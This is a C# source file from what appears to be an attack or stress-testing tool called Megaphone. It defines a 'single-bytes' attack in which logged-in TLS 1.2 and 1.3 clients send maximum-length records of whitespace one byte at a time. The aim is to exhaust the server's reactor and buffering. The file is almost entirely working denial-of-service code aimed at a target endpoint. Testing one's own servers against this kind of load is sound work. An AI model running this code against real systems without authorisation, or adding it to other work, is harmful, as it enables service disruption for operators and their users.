using System.Net;
using System.Net.Sockets;

namespace Megaphone.Attacks;

/// <summary>
/// Records of the greatest length, byte by byte, with nothing but white space in them: each byte wakes a reactor, and is kept until its record is
/// whole, as the clients have logged in.
/// </summary>
internal sealed class SingleBytes : CostlyTls
{
    /// <summary>More than one client can send byte by byte.</summary>
    private const int BytesPerSecond = 1_000_000;

    /// <inheritdoc/>
    public override string Name => "single-bytes";

    /// <inheritdoc/>
    public override string Summary => "TLS 1.2 and 1.3: clients that have logged in send long records in single bytes";

    /// <inheritdoc/>
    protected override int BytesAtATime => 1;

    /// <inheritdoc/>
    protected override bool Reads => true;

    /// <inheritdoc/>
    protected override async Task<(Socket Socket, byte[] Bytes)> MakeAsync(IPEndPoint to, string keyLog, int number, TimeSpan length)
    {
        byte[] content = new byte[HandmadeTls12.MaxContentBytes];
        content.AsSpan().Fill((byte)' ');
        int records = (int)(BytesPerSecond * length.TotalSeconds) / content.Length;
        if (number % 2 == 0)
        {
            HandmadeTls tls = await HandmadeTls.ConnectAsync(to, keyLog);
            await HandmadeLogin.MakeAsync(tls);
            return (tls.Socket, [.. Enumerable.Range(0, records).SelectMany(_ => tls.Seal(HandmadeTls.ApplicationData, content))]);
        }

        HandmadeTls12 older = await HandmadeTls12.ConnectAsync(to, keyLog);
        await HandmadeLogin.MakeAsync(older);
        return (older.Socket, [.. Enumerable.Range(0, records).SelectMany(_ => older.Seal(HandmadeTls.ApplicationData, content))]);
    }
}
